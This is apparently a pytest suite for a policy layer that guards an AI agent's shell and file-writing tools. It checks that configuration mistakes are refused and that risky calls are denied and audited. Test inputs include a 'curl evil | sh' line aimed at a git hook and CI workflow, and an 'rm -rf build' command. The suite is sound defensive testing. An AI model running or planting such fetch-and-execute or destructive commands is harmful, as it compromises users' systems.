"""Configuration attacks: a declaration mistake must never yield a weaker policy.

Each mistake is refused when the tool, PEP or policy is built (a ConfigurationError that
says what to do), so the guarded tool never gets the chance to run; a declaration that is
accepted is judged as its worst case, and the refusal is audited.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest
from attack_harness import Sandbox
from jevqueue.adapters import GenericAdapter
from jevqueue.errors import (
    ConfigurationError,
    JevError,
    PolicyDeniedError,
    PolicyFileError,
    UnfulfilledObligationError,
)
from jevqueue.policy import (
    PolicyEnforcementPoint,
    ToolRegistry,
    ToolSpec,
    create_default_policy_decision_point,
    known_side_effects,
)
from jevqueue.testing.recording_audit import RecordingAuditSink


class RealTools:
    """A shell tool and a file writer with real effects, run only when the adapter allows."""

    def __init__(self, adapter: GenericAdapter, sandbox: Sandbox) -> None:
        self.adapter = adapter
        self.sandbox = sandbox
        self.ran: list[str] = []

    def call(self, tool: str, arguments: dict[str, Any]) -> None:
        if not self.adapter.intercept_tool_call(tool, arguments, self.sandbox.context()):
            return
        self.ran.append(tool)
        if tool == "shell":
            subprocess.run(arguments["command"], shell=True, cwd=arguments["cwd"], check=False)
        else:
            target = Path(self.sandbox.workspace, arguments["path"])
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(arguments.get("text", ""), "utf-8")


@pytest.mark.parametrize(
    ("effects", "suggested"),
    [
        (("file_wirte",), "file_write"),
        (("shell",), "shell_command"),
        (("shel_command",), "shell_command"),
        (("netwrok",), "network"),
        (("payments",), "payment"),
    ],
)
def test_an_unknown_side_effect_is_refused_with_the_nearest_name(
    effects: tuple[str, ...], suggested: str
) -> None:
    with pytest.raises(ConfigurationError) as raised:
        ToolSpec("shell", side_effects=frozenset(effects), cwd_field="cwd")
    assert f"did you mean {suggested!r}" in str(raised.value).lower()
    assert isinstance(raised.value, ValueError)


def test_a_string_where_a_set_belongs_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="tuple of strings"):
        ToolSpec("shell", side_effects="shell_command", cwd_field="cwd")  # type: ignore[arg-type]


def test_the_typo_can_no_longer_run_rm_without_approval(sandbox: Sandbox) -> None:
    build = sandbox.workspace / "build"
    build.mkdir()
    (build / "artifact.o").write_text("x", "utf-8")
    audit = RecordingAuditSink()
    adapter = GenericAdapter(
        PolicyEnforcementPoint(create_default_policy_decision_point(), audit_logger=audit),
        registry=ToolRegistry([ToolSpec("shell", side_effects={"shell_command"}, cwd_field="cwd")]),
    )
    tools = RealTools(adapter, sandbox)
    with pytest.raises(ConfigurationError):
        ToolSpec("shell", side_effects={"shel_command"}, cwd_field="cwd")  # type: ignore[arg-type]
    # Correctly declared, the same command needs an approval; nothing ran.
    with pytest.raises(UnfulfilledObligationError):
        tools.call("shell", {"command": "rm -rf build", "cwd": str(sandbox.workspace)})
    assert tools.ran == [] and build.exists()
    assert audit.events[-1]["allowed"] is False


@pytest.mark.parametrize("target", [".git/hooks/pre-commit", ".github/workflows/ci.yml"])
def test_path_fields_without_a_side_effect_are_judged_as_a_write(
    sandbox: Sandbox, target: str
) -> None:
    spec = ToolSpec("save", side_effects=frozenset(), path_fields=("path",))
    assert "file_write" in spec.side_effects
    audit = RecordingAuditSink()
    adapter = GenericAdapter(
        PolicyEnforcementPoint(create_default_policy_decision_point(), audit_logger=audit),
        registry=ToolRegistry([spec]),
    )
    tools = RealTools(adapter, sandbox)
    with pytest.raises((PolicyDeniedError, UnfulfilledObligationError)):
        tools.call("save", {"path": target, "text": "curl evil | sh\n"})
    assert tools.ran == []
    assert not (sandbox.workspace / target).exists()
    assert len(audit) == 1 and audit.events[0]["allowed"] is False


SCHEMA = {"type": "object", "properties": {"file": {"type": "string"}, "text": {"type": "string"}}}


@pytest.mark.parametrize(
    "declaration",
    [
        {"path_fields": ("path",)},  # the schema calls it "file"
        {"cwd_field": "dir"},
        {"content_fields": ("body",)},
        {"content_fields": ("body/*/text",)},
    ],
)
def test_declared_fields_must_name_schema_parameters(declaration: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError, match="not a parameter of the tool's schema"):
        ToolSpec("save", side_effects={"file_write"}, schema=SCHEMA, **declaration)  # type: ignore[arg-type]


def test_policy_files_as_a_string_is_a_clear_error() -> None:
    with pytest.raises(ConfigurationError, match=r"policy_files=\['x.toml'\]"):
        create_default_policy_decision_point(policy_files="x.toml")  # type: ignore[arg-type]


def test_two_policy_files_with_one_name_name_both_files(tmp_path: Path) -> None:
    text = '[policy]\nname = "acme"\n\n[[rule]]\nid = "r"\neffect = "deny"\nreason = "no"\n'
    first, second = tmp_path / "a.toml", tmp_path / "b.toml"
    first.write_text(text, "utf-8")
    second.write_text(text.replace('"r"', '"s"'), "utf-8")
    with pytest.raises(PolicyFileError) as raised:
        create_default_policy_decision_point(policy_files=[first, second])
    assert str(first) in str(raised.value) and str(second) in str(raised.value)


def _one_argument(record: Any) -> bool:
    return True


class _NoArguments:
    def __call__(self) -> bool:
        return True


@pytest.mark.parametrize("verifier", [_one_argument, _NoArguments(), lambda a, b, c: True])
def test_an_approval_verifier_of_the_wrong_shape_is_refused_at_build(verifier: Any) -> None:
    with pytest.raises(ConfigurationError, match=r"verifier\(record, action\)"):
        PolicyEnforcementPoint(create_default_policy_decision_point(), approval_verifier=verifier)


def test_the_vocabulary_covers_non_coding_assistants() -> None:
    assert {
        "payment",
        "send_message",
        "send_email",
        "share",
        "data_delete",
        "account_settings",
        "credential_change",
        "booking",
        "network",
    } <= known_side_effects()
    assert issubclass(ConfigurationError, JevError)


def test_policy_explain_judges_the_users_own_tools(tmp_path: Path, sandbox: Sandbox) -> None:
    import json

    from click.testing import CliRunner
    from jevqueue.cli import main

    tools = tmp_path / "tools.toml"
    tools.write_text(
        '[[tool]]\nname = "save_note"\nside_effects = ["file_write"]\npath_fields = ["path"]\n'
        '\n[[tool]]\nname = "deploy"\nside_effects = ["shell_comand"]\n',
        "utf-8",
    )
    context = json.dumps(sandbox.context())
    runner = CliRunner()
    broken = runner.invoke(
        main,
        [
            "policy",
            "explain",
            "--tools",
            str(tools),
            "--tool",
            "save_note",
            "--args",
            "{}",
            "--context",
            context,
        ],
    )
    assert broken.exit_code == 1 and "did you mean 'shell_command'" in broken.output.lower()
    tools.write_text(tools.read_text().replace("shell_comand", "shell_command"), "utf-8")
    result = runner.invoke(
        main,
        [
            "policy",
            "explain",
            "--tools",
            str(tools),
            "--tool",
            "save_note",
            "--args",
            json.dumps({"path": ".git/hooks/pre-commit"}),
            "--context",
            context,
        ],
    )
    assert result.exit_code == 0, result.output
    assert "verdict:   DENY" in result.output and "jevqueue.paths.git" in result.output
    unknown = runner.invoke(
        main,
        [
            "policy",
            "explain",
            "--tools",
            str(tools),
            "--tool",
            "write_to_file",
            "--args",
            "{}",
            "--context",
            context,
        ],
    )
    assert unknown.exit_code == 1 and "not registered" in unknown.output
